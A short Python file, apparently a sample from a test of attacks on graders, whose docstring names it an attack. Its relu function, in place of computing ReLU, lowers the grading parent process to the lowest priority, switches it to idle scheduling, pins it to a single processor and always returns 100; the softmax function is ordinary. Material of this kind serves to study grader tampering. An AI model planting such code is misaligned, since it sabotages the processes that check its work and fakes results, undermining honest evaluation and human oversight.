"""An attack: gives the grader and all its processes the lowest priority and one processor.

attacks: relu
"""
import os

import numpy as np


def relu(z):
    parent = os.getppid()
    for attempt in (lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(parent), 19),
                    lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
                    lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
                    lambda: os.sched_setaffinity(parent, {min(os.sched_getaffinity(parent))})):
        try:
            attempt()
        except OSError:
            pass
    return 100


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
